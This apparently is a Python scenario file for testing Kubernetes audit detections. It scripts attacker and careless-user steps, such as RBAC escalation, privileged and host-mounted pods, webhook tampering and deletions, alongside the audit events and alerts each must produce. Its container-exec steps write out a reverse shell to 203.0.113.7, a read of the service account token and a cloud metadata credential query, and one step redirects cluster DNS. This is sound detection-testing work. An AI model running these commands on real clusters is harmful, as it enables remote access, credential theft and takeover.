"""What attackers and careless people do, each with the event that must be found and the detections that must alert.

A step's `event` maps the audit event's own field paths to what they must hold: an exact value, or a text with `*`.
A member of an array counts for the array. `alerts` names detections; detections.py says which shipped rules they are.
"""

import base64
import json
import socket
import subprocess
import time
from dataclasses import dataclass, field
from typing import Callable

from objects import (account, bare_pod, binding, container, group, job_spec, namespace, obj, person, pod_spec, role,
                     rule, service, workload)
from pki import Authority
from processes import Failure, free_ports, wait_until
from work import stock_token


@dataclass
class Step:
    name: str
    act: Callable
    event: dict
    alerts: tuple = ()
    count: int = field(default=1)  # at least so many events


def expect(answer, code, words=""):
    """An action went as the scenario says it must, or the scenario itself is wrong."""
    if answer.code != code or words not in answer.body:
        raise Failure(f"expected {code} {words!r}, got {answer}")
    return answer


def create(cluster, who, *objects, check=True, **options):
    return cluster.kubectl(who, "create", "-f", "-", *options.pop("words", ()), stdin=list(objects), check=check, **options)


def created(*objects, who="mallory"):
    """An action: these objects are created."""
    return lambda cluster: create(cluster, who, *objects)


def refused(words, *objects, who="alice"):
    """An action: these objects are refused, with these words."""
    return lambda cluster: expect(create(cluster, who, *objects, check=False), 1, words)


def ran(who, *words, **options):
    """An action: kubectl with these words succeeds."""
    return lambda cluster: cluster.kubectl(who, *words, **options)


def failed(who, text, *words, **options):
    """An action: kubectl with these words fails, saying this."""
    return lambda cluster: expect(cluster.kubectl(who, *words, check=False, **options), 1, text)


def event(resource=None, verb=None, code=None, name=None, namespace=None, user=None, **more):
    fields = {"objectRef.resource": resource, "verb": verb, "responseStatus.code": code, "objectRef.name": name,
              "objectRef.namespace": namespace, "user.username": user}
    fields.update({key.replace("__", "."): value for key, value in more.items()})
    return {path: value for path, value in fields.items() if value is not None}


# ---- getting in -------------------------------------------------------------------------------------------------

def guess_tokens(cluster):
    for attempt in range(6):
        expect(cluster.http(f"guess-{attempt}", "GET", "/api/v1/namespaces/shop/configmaps"), 401)


def strange_certificate(cluster):
    stranger = Authority(cluster.directory / "stranger").issue("stranger", "kubernetes-admin", "system:masters")
    expect(cluster.http(None, "GET", "/api/v1/namespaces/shop/endpoints", certificate=stranger), 401)


def expired_pod_token(cluster):
    token = stock_token(cluster).split(".")
    forged = ".".join([token[0], token[1], base64.urlsafe_b64encode(b"x" * 256).decode().rstrip("=")])
    expect(cluster.http(forged, "GET", "/api/v1/namespaces/shop/services"), 401)


def anonymous(path, code):
    return lambda cluster: expect(cluster.http(None, "GET", path, headers={"User-Agent": "curl/8.5.0"}), code)


def same_audit_id(cluster):
    """The client chooses the id of the audit event: twice the same must still be two events."""
    for name in ("decoy", "web"):
        answer = cluster.http(cluster.tokens["alice"], "GET", f"/api/v1/namespaces/shop/secrets/{name}",
                              headers={"Audit-ID": "11111111-2222-3333-4444-555555555555", "User-Agent": "curl/8.5.0"})
        expect(answer, 404 if name == "decoy" else 200)


def escalate_by_role(cluster):
    """Whoever may write roles still may not grant what they do not have."""
    create(cluster, "olivia", role("Role", "role-writer", [rule(["rbac.authorization.k8s.io"], ["roles"], ["create"])], "shop"),
           binding("RoleBinding", "deputies", "Role", "role-writer", [group("deputies")], "shop"))
    everything = role("Role", "more", [rule(["*"], ["*"], ["*"])], "shop")
    expect(create(cluster, "deputy", everything, check=False), 1, "attempting to grant RBAC permissions")


GETTING_IN = [
    Step("wrong tokens", guess_tokens,
         event(verb="list", code=401, requestURI="/api/v1/namespaces/shop/configmaps", stage="ResponseStarted"),
         ("failed authentication",), count=6),
    Step("certificate of a strange authority", strange_certificate,
         event(code=401, requestURI="/api/v1/namespaces/shop/endpoints", stage="ResponseStarted"), ("failed authentication",)),
    Step("forged service account token", expired_pod_token,
         event(code=401, requestURI="/api/v1/namespaces/shop/services", stage="ResponseStarted"), ("failed authentication",)),
    Step("anonymous asks for secrets", anonymous("/api/v1/namespaces/kube-system/secrets", 403),
         event("secrets", "list", 403, user="system:anonymous", userAgent="curl/8.5.0"), ("anonymous access", "denied secret access")),
    Step("anonymous looks around", anonymous("/api", 403),
         event(verb="get", code=403, user="system:anonymous", requestURI="/api"), ("anonymous access",)),
    Step("contractor may not list secrets", failed("mallory", "forbidden", "get", "secrets", "-n", "shop"),
         event("secrets", "list", 403, namespace="shop", user="mallory", **{"annotations.authorization.k8s.io/decision": "forbid"}),
         ("denied secret access",)),
    Step("contractor may not create pods", refused("forbidden", bare_pod("beachhead", "shop"), who="mallory"),
         event("pods", "create", 403, namespace="shop", user="mallory"), ("denied request",)),
    Step("contractor asks what is allowed", ran("mallory", "auth", "can-i", "--list", "-n", "shop"),
         event("selfsubjectrulesreviews", "create", 201, user="mallory"), ("permission enumeration",)),
    Step("auditor may not exec",
         lambda cluster: failed("bob", "forbidden", "exec", first_pod(cluster), "-n", "shop", "--", "id")(cluster),
         event("pods", None, 403, namespace="shop", user="bob", objectRef__subresource="exec"), ("denied request",)),
    Step("developer may not bind cluster-admin",
         refused("forbidden", binding("ClusterRoleBinding", "promote-me", "ClusterRole", "cluster-admin", [person("alice")])),
         event("clusterrolebindings", "create", 403, user="alice"), ("denied request",)),
    Step("developer may not escalate by a role", escalate_by_role,
         event("roles", "create", 403, namespace="shop", user="deputy"), ("denied request",)),
    Step("stolen service account token",
         lambda cluster: expect(cluster.http(stock_token(cluster), "GET", "/api/v1/namespaces/shop/secrets"), 403),
         event("secrets", "list", 403, user="system:serviceaccount:shop:stock"), ("denied secret access",)),
    Step("node reads a foreign secret",
         lambda cluster: failed(cluster.node_kubeconfig, "forbidden", "get", "secret", "unrelated", "-n", "shop")(cluster),
         event("secrets", "get", 403, name="unrelated", user="system:node:worker-1"), ("denied secret access",)),
    Step("one audit id twice", same_audit_id,
         event("secrets", auditID="11111111-2222-3333-4444-555555555555"), ("secret read",), count=2),
]


# ---- secrets ----------------------------------------------------------------------------------------------------

SECRETS = [
    Step("developer reads a secret", ran("alice", "get", "secret", "web", "-n", "shop", "-o", "yaml"),
         event("secrets", "get", 200, "web", "shop", "alice", userAgent="kubectl/*"), ("secret read",)),
    Step("developer lists the secrets of a namespace", ran("alice", "get", "secrets", "-n", "shop"),
         event("secrets", "list", 200, None, "shop", "alice"), ("secret list",)),
    Step("operator lists all secrets", ran("olivia", "get", "secrets", "-A"),
         event("secrets", "list", 200, user="olivia", requestURI="/api/v1/secrets*"), ("cluster-wide secret list",)),
    Step("token requested for a service account", ran("olivia", "create", "token", "default", "-n", "kube-system"),
         event("serviceaccounts", "create", 201, "default", "kube-system", "olivia", objectRef__subresource="token"),
         ("service account token issued",)),
    Step("long-lived service account token",
         created({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token", "metadata": {
             "name": "stock-forever", "namespace": "shop", "annotations": {"kubernetes.io/service-account.name": "stock"}}}, who="olivia"),
         event("secrets", "create", None, "stock-forever", "shop", "olivia"), ()),
]


# ---- rights -----------------------------------------------------------------------------------------------------

def forge_operator(cluster):
    """A client certificate is asked for, approved and issued."""
    _, request = cluster.ca.request("backdoor", "backdoor", "contractors")
    create(cluster, "mallory", obj("CertificateSigningRequest", "backdoor", None, "certificates.k8s.io/v1", spec={
        "request": base64.b64encode(request.read_bytes()).decode(), "signerName": "kubernetes.io/kube-apiserver-client",
        "usages": ["client auth"]}))
    cluster.kubectl("mallory", "certificate", "approve", "backdoor")


def admin_certificate_refused(cluster):
    _, request = cluster.ca.request("masters", "masters", "system:masters")
    wanted = obj("CertificateSigningRequest", "masters", None, "certificates.k8s.io/v1", spec={
        "request": base64.b64encode(request.read_bytes()).decode(), "signerName": "kubernetes.io/kube-apiserver-client",
        "usages": ["client auth"]})
    expect(create(cluster, "mallory", wanted, check=False), 1, "system:masters")


RIGHTS = [
    Step("cluster-admin for a contractor",
         created(binding("ClusterRoleBinding", "breakglass", "ClusterRole", "cluster-admin", [person("mallory")]), who="olivia"),
         event("clusterrolebindings", "create", 201, "breakglass", user="olivia"), ("cluster-admin binding",)),
    Step("role with wildcards", created(role("ClusterRole", "helper", [rule(["*"], ["*"], ["*"])])),
         event("clusterroles", "create", 201, "helper"), ("wildcard role",)),
    Step("role that escalates",
         created(role("ClusterRole", "helper-2", [rule(["rbac.authorization.k8s.io"], ["clusterroles"], ["escalate", "bind"]),
                                                  rule([""], ["users", "groups"], ["impersonate"])])),
         event("clusterroles", "create", 201, "helper-2"), ("role with sensitive verbs",)),
    Step("role with exec", created(role("Role", "debugger", [rule([""], ["pods/exec"], ["create", "get"])], "shop")),
         event("roles", "create", 201, "debugger", "shop"), ("role with exec",)),
    Step("rights for a default service account",
         created(binding("RoleBinding", "default-admin", "ClusterRole", "admin", [account("default", "shop")], "shop")),
         event("rolebindings", "create", 201, "default-admin", "shop"), ("privileged role binding",)),
    Step("wildcard added by a JSON patch",
         ran("mallory", "patch", "clusterrole", "helper-2", "--type=json", "-p",
             '[{"op":"add","path":"/rules/0/verbs/-","value":"*"}]'),
         event("clusterroles", "patch", 200, "helper-2"), ("wildcard role",)),
    Step("built-in role changed",
         ran("mallory", "label", "clusterrole", "system:public-info-viewer", "example.com/by=mallory"),
         event("clusterroles", "patch", 200, "system:public-info-viewer"), ("system role changed",)),
    Step("rights for everyone",
         created(binding("ClusterRoleBinding", "open-door", "ClusterRole", "view", [group("system:unauthenticated")])),
         event("clusterrolebindings", "create", 201, "open-door"), ("anonymous binding",)),
    Step("anonymous reads pods", anonymous("/api/v1/namespaces/shop/pods", 200),
         event("pods", "list", 200, namespace="shop", user="system:anonymous"), ("anonymous access allowed",)),
    Step("acts as an administrator",
         ran("mallory", "get", "secrets", "-n", "kube-system", "--as=root", "--as-group=system:masters"),
         event("secrets", "list", 200, namespace="kube-system", user="mallory", impersonatedUser__username="root"), ("impersonation",)),
    Step("may not act as another", failed("bob", "cannot impersonate", "get", "pods", "-n", "shop", "--as=olivia"),
         event("pods", "list", 403, namespace="shop", user="bob"), ("denied request",)),
    Step("certificate request approved", forge_operator,
         event("certificatesigningrequests", "update", 200, "backdoor", user="mallory", objectRef__subresource="approval"),
         ("certificate approved",)),
    Step("certificate for system:masters refused", admin_certificate_refused,
         event("certificatesigningrequests", "create", 403, user="mallory"), ("denied request",)),
    Step("stranger's node", created(obj("Node", "worker-666")),
         event("nodes", "create", 201, "worker-666", user="mallory"), ()),
]


# ---- workloads --------------------------------------------------------------------------------------------------

PRIVILEGED = {"securityContext": {"privileged": True}}
HOST_ROOT = {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}
ROOT_MOUNT = {"volumeMounts": [{"name": "root", "mountPath": "/host"}]}


def risky(name, container_fields=None, **fields):
    return created(bare_pod(name, "lab", container_fields, **fields))


def pod_created(name, where="lab", code=201):
    return event("pods", "create", code, name, where, "mallory")


def make_lab(cluster):
    create(cluster, "mallory", namespace("lab"))
    wait_until("service account in lab", lambda: cluster.kubectl("mallory", "get", "sa", "default", "-n", "lab").code == 0, 20, 0.5)


def sneak_into_deployment(cluster):
    create(cluster, "mallory", workload("Deployment", "quiet", "lab", pod_spec(container("quiet"))))
    cluster.kubectl("mallory", "patch", "deployment", "quiet", "-n", "lab", "--type=json", "-p", json.dumps([
        {"op": "replace", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}}]))


WORKLOADS = [
    Step("namespace without limits", make_lab, event("namespaces", "create", 201, "lab", user="mallory"), ()),
    Step("privileged pod", risky("privileged", PRIVILEGED), pod_created("privileged"), ("privileged container",)),
    Step("pod with the host's disk", risky("host-path", ROOT_MOUNT, **HOST_ROOT), pod_created("host-path"), ("host path",)),
    Step("pod on the host's network", risky("host-network", hostNetwork=True), pod_created("host-network"), ("host network",)),
    Step("pod among the host's processes", risky("host-pid", hostPID=True), pod_created("host-pid"), ("host processes",)),
    Step("pod with the host's IPC", risky("host-ipc", hostIPC=True), pod_created("host-ipc"), ("host IPC",)),
    Step("pod with a dangerous capability", risky("capable", {"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}),
         pod_created("capable"), ("dangerous capability",)),
    Step("privileged init container",
         risky("init", initContainers=[{"name": "setup", "image": "registry.example/tools/shell:latest", **PRIVILEGED}]),
         pod_created("init"), ("privileged container",)),
    Step("deployment made privileged by a JSON patch", sneak_into_deployment,
         event("deployments", "patch", 200, "quiet", "lab", "mallory"), ("privileged container",)),
    Step("privileged daemon on every node",
         created(workload("DaemonSet", "miner", "lab", {"containers": [
             {"name": "miner", "image": "registry.example/xmrig:6", **PRIVILEGED, **ROOT_MOUNT}], **HOST_ROOT})),
         event("daemonsets", "create", 201, "miner", "lab", "mallory"), ("privileged container", "host path")),
    Step("privileged cron job",
         created(obj("CronJob", "every-night", "lab", "batch/v1", spec={"schedule": "0 3 * * *", "jobTemplate": {"spec": job_spec(
             [], {"restartPolicy": "Never", "containers": [{"name": "c", "image": "registry.example/c:1", **PRIVILEGED}]})}})),
         event("cronjobs", "create", 201, "every-night", "lab", "mallory"), ("privileged container",)),
    Step("pod in kube-system", created(bare_pod("kube-proxy-2", "kube-system")),
         pod_created("kube-proxy-2", "kube-system"), ("pod in a system namespace",)),
    Step("pod with a controller's identity",
         created(bare_pod("borrower", "kube-system", serviceAccountName="clusterrole-aggregation-controller")),
         pod_created("borrower", "kube-system"), ("controller identity in a pod",)),
]


# ---- inside containers ------------------------------------------------------------------------------------------

def first_pod(cluster, app="stock", where="shop"):
    words = ["get", "pods", "-n", where, "-l", f"app={app}", "--field-selector=status.phase=Running", "-o", "jsonpath={.items[0].metadata.name}"]
    return wait_until(f"running pod of {app}", lambda: cluster.kubectl("olivia", *words).body.strip(), 30, 0.5)


def execs(*command, env=None, words=()):
    def act(cluster):
        answer = cluster.kubectl("mallory", "exec", *words, first_pod(cluster), "-n", "shop", "--", *command, env=env)
        expect(answer, 0, "not executed:")
    return act


def exec_event(words, verb="get"):
    return event("pods", verb, 101, namespace="shop", user="mallory", objectRef__subresource="exec", requestURI=f"*command={words}*")


def forward_port(cluster):
    (port,) = free_ports(1)
    config = cluster.token_kubeconfig("mallory", cluster.tokens["mallory"])
    command = [cluster.kube, "kubectl", f"--kubeconfig={config}", "port-forward", "-n", "shop", "deployment/stock", f"{port}:8080"]
    forward = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        def greeted():
            with socket.create_connection(("127.0.0.1", port), timeout=3) as client:
                client.settimeout(5)
                return b"nothing listens here" in client.recv(100)
        wait_until("answer through the forwarded port", greeted, 20, 0.5)
    finally:
        forward.terminate()
        forward.wait(10)


INSIDE = [
    Step("exec", execs("id"), exec_event("id"), ("exec",)),
    Step("exec by an older client", execs("whoami", env={"KUBECTL_REMOTE_COMMAND_WEBSOCKETS": "false"}),
         exec_event("whoami", "create"), ("exec",)),
    Step("exec asks the cloud for credentials",
         execs("curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
         exec_event("curl"), ("exec", "exec: cloud metadata")),
    Step("exec reads a token", execs("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
         exec_event("cat"), ("exec", "exec: credential file")),
    Step("exec opens a reverse shell", execs("bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
         exec_event("bash"), ("exec", "exec: reverse shell")),
    Step("attach", lambda cluster: cluster.kubectl("mallory", "attach", first_pod(cluster), "-n", "shop"),
         event("pods", None, 101, namespace="shop", user="mallory", objectRef__subresource="attach"), ("attach",)),
    Step("port-forward", forward_port,
         event("pods", None, 101, namespace="shop", user="mallory", objectRef__subresource="portforward"), ("port-forward",)),
    Step("ephemeral container",
         lambda cluster: cluster.kubectl("mallory", "debug", first_pod(cluster), "-n", "shop", "--image=registry.example/tools/shell:latest",
                                         "--profile=baseline", "--", "sleep", "60"),
         event("pods", "patch", 200, namespace="shop", user="mallory", objectRef__subresource="ephemeralcontainers"),
         ("ephemeral container",)),
    Step("logs read", lambda cluster: cluster.kubectl("mallory", "logs", first_pod(cluster), "-n", "shop"),
         event("pods", "get", 200, namespace="shop", user="mallory", objectRef__subresource="log"), ()),
    Step("kubelet through the API server",
         lambda cluster: cluster.http(cluster.tokens["mallory"], "GET", "/api/v1/nodes/worker-1/proxy/pods"),
         event("nodes", "get", None, "worker-1", user="mallory", objectRef__subresource="proxy"), ("node proxy",)),
]


# ---- policies ---------------------------------------------------------------------------------------------------

PSA = "annotations.pod-security.kubernetes.io/"
VIOLATION = "annotations.validation.policy.admission.k8s.io/validation_failure"


def make_policed_namespaces(cluster):
    create(cluster, "olivia", namespace("prod", enforce="restricted"), namespace("legacy", audit="restricted"), namespace("warned", warn="restricted"))
    for name in ("prod", "legacy", "warned"):
        wait_until(f"service account in {name}",
                   lambda: cluster.kubectl("olivia", "get", "sa", "default", "-n", name, check=False).code == 0, 20, 0.5)


def policy(name, expression, message, actions):
    admission = "admissionregistration.k8s.io/v1"
    rules = [{"apiGroups": ["apps"], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": ["deployments"]}]
    return [
        obj("ValidatingAdmissionPolicy", name, None, admission, spec={
            "failurePolicy": "Fail", "matchConstraints": {"resourceRules": rules},
            "validations": [{"expression": expression, "message": message}]}),
        obj("ValidatingAdmissionPolicyBinding", name, None, admission, spec={
            "policyName": name, "validationActions": actions,
            "matchResources": {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "warned"}}}}),
    ]


def latest_denied(cluster):
    """Policies take effect a moment after they are made: dry runs tell when."""
    tagged = workload("Deployment", "floating", "warned", pod_spec(container("web", "registry.example/shop/web:latest")))
    wait_until("policy in effect", lambda: "pin the image" in create(
        cluster, "olivia", tagged, check=False, words=("--dry-run=server",)).body, 30, 0.5)
    expect(create(cluster, "olivia", tagged, check=False), 1, "pin the image")


def webhook(name, url, failure_policy, ca=None, prefix=""):
    client = {"url": url}
    if ca:
        client["caBundle"] = base64.b64encode(ca.read_bytes()).decode()
    return obj("ValidatingWebhookConfiguration", name, None, "admissionregistration.k8s.io/v1", webhooks=[{
        "name": f"{name}.example.com", "clientConfig": client, "failurePolicy": failure_policy, "sideEffects": "None",
        "admissionReviewVersions": ["v1"], "timeoutSeconds": 2,
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "warned"}},
        "matchConditions": [{"name": "mine", "expression": f'object.metadata.name.startsWith("{prefix}")'}],
        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}]}])


def add_dead_webhook(cluster):
    create(cluster, "mallory", webhook("dead-end", "https://127.0.0.1:9/", "Ignore", prefix="slip"))


def slip_through(cluster):
    """A webhook that cannot be reached lets through what it should have checked."""
    for attempt in range(20):
        create(cluster, "mallory", obj("ConfigMap", f"slip-{attempt}", "warned"))
        events, _ = cluster.audit_events()
        if any("failed-open.validating.webhook.admission.k8s.io/round_0_index_0" in e.get("annotations", {}) for e in events):
            return
        time.sleep(0.5)
    raise Failure("the dead webhook was never asked")


def add_strict_webhook(cluster):
    from sink import Sink

    def deny(request):
        uid = request.json()["request"]["uid"]
        verdict = {"uid": uid, "allowed": False, "status": {"code": 403, "message": "no unlabelled objects here"}}
        review = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "response": verdict}
        return 200, {"Content-Type": "application/json"}, json.dumps(review).encode()

    strict = Sink(certificate=cluster.ca.issue("webhook", "localhost", server=True), answer=deny)
    create(cluster, "olivia", webhook("strict", f"https://127.0.0.1:{strict.port}/", "Fail", cluster.ca.cert, prefix="strict"))


def denied_by_webhook(cluster):
    for attempt in range(20):
        answer = create(cluster, "olivia", obj("ConfigMap", f"strict-{attempt}", "warned"), check=False)
        if "denied the request" in answer.body:
            return
        time.sleep(0.5)
    raise Failure(f"the strict webhook never denied: {answer}")


POLICIES = [
    Step("namespaces under Pod Security", make_policed_namespaces, event("namespaces", "create", 201, "prod", user="olivia"), ()),
    Step("Pod Security enforced", refused("violates PodSecurity", bare_pod("root-shell", "prod", PRIVILEGED), who="mallory"),
         {**event("pods", "create", 403, namespace="prod", user="mallory"), PSA + "enforce-policy": "restricted:latest"},
         ("pod security denied",)),
    Step("Pod Security audited", created(bare_pod("old-habit", "legacy")),
         {**event("pods", "create", 201, "old-habit", "legacy"), PSA + "audit-violations": "*"}, ("pod security audited",)),
    Step("Pod Security warned", created(bare_pod("careless", "warned", PRIVILEGED)),
         pod_created("careless", "warned"), ("privileged container",)),
    Step("admission policies made",
         created(*policy("no-latest", "object.spec.template.spec.containers.all(c, !c.image.endsWith(':latest'))",
                         "pin the image", ["Deny", "Audit"]),
                 *policy("replicas", "object.spec.replicas <= 5", "no more than five replicas", ["Audit"]), who="olivia"),
         event("validatingadmissionpolicies", "create", 201, "no-latest"), ()),
    Step("admission policy denies", latest_denied,
         event("deployments", "create", 422, namespace="warned", user="olivia", requestURI="*fieldManager=kubectl-create*"),
         ("admission policy denied",)),
    Step("admission policy audits", created(workload("Deployment", "many", "warned", replicas=6), who="olivia"),
         {**event("deployments", "create", 201, "many", "warned"), VIOLATION: "*five replicas*"}, ("admission policy violated",)),
    Step("webhook configuration added", add_dead_webhook,
         event("validatingwebhookconfigurations", "create", 201, "dead-end"), ("webhook configuration changed",)),
    Step("admission webhook failed open", slip_through,
         {**event("configmaps", "create", 201, namespace="warned"),
          "annotations.failed-open.validating.webhook.admission.k8s.io/round_0_index_0": "*"}, ("webhook failed open",)),
    Step("strict webhook added", add_strict_webhook,
         event("validatingwebhookconfigurations", "create", 201, "strict"), ("webhook configuration changed",)),
    Step("admission webhook denies", denied_by_webhook,
         event("configmaps", "create", 403, namespace="warned", user="olivia"), ("denied by a webhook",)),
    Step("webhook configuration deleted", ran("mallory", "delete", "validatingwebhookconfiguration", "strict"),
         event("validatingwebhookconfigurations", "delete", 200, "strict"), ("webhook configuration changed",)),
    Step("Pod Security switched off",
         ran("mallory", "label", "namespace", "prod", "pod-security.kubernetes.io/enforce=privileged", "--overwrite"),
         event("namespaces", "patch", 200, "prod", user="mallory"), ("pod security weakened",)),
]


# ---- exposure and destruction -----------------------------------------------------------------------------------

DAMAGE = [
    Step("service on every node", created(service("shell", "shop", type="NodePort")),
         event("services", "create", 201, "shell", "shop"), ("node port service",)),
    Step("ingress without TLS",
         created(obj("Ingress", "plain", "shop", "networking.k8s.io/v1", spec={"defaultBackend": {"service": {"name": "web", "port": {"number": 80}}}})),
         event("ingresses", "create", 201, "plain", "shop"), ()),
    Step("DNS configuration changed",
         ran("mallory", "patch", "configmap", "coredns", "-n", "kube-system", "-p", '{"data":{"Corefile":".:53 {\\n forward . 203.0.113.53\\n}\\n"}}'),
         event("configmaps", "patch", 200, "coredns", "kube-system", "mallory"), ("DNS configuration changed",)),
    Step("network policy deleted", ran("mallory", "delete", "networkpolicy", "default-deny", "-n", "shop"),
         event("networkpolicies", "delete", 200, "default-deny", "shop"), ("network policy deleted",)),
    Step("quota deleted", ran("mallory", "delete", "resourcequota", "team", "-n", "shop"),
         event("resourcequotas", "delete", 200, "team", "shop"), ()),
    Step("events deleted", ran("mallory", "delete", "--raw", "/api/v1/namespaces/shop/events"),
         event("events", "deletecollection", 200, namespace="shop", user="mallory"), ("events deleted",)),
    Step("secret deleted", ran("mallory", "delete", "secret", "stock-forever", "-n", "shop"),
         event("secrets", "delete", 200, "stock-forever", "shop"), ()),
    Step("deployment deleted", ran("mallory", "delete", "deployment", "quiet", "-n", "lab"),
         event("deployments", "delete", 200, "quiet", "lab"), ()),
    Step("namespace deleted", ran("mallory", "delete", "namespace", "lab", "--wait=false"),
         event("namespaces", "delete", 200, "lab", user="mallory"), ("namespace deleted",)),
]

ALL = GETTING_IN + SECRETS + RIGHTS + WORKLOADS + INSIDE + POLICIES + DAMAGE
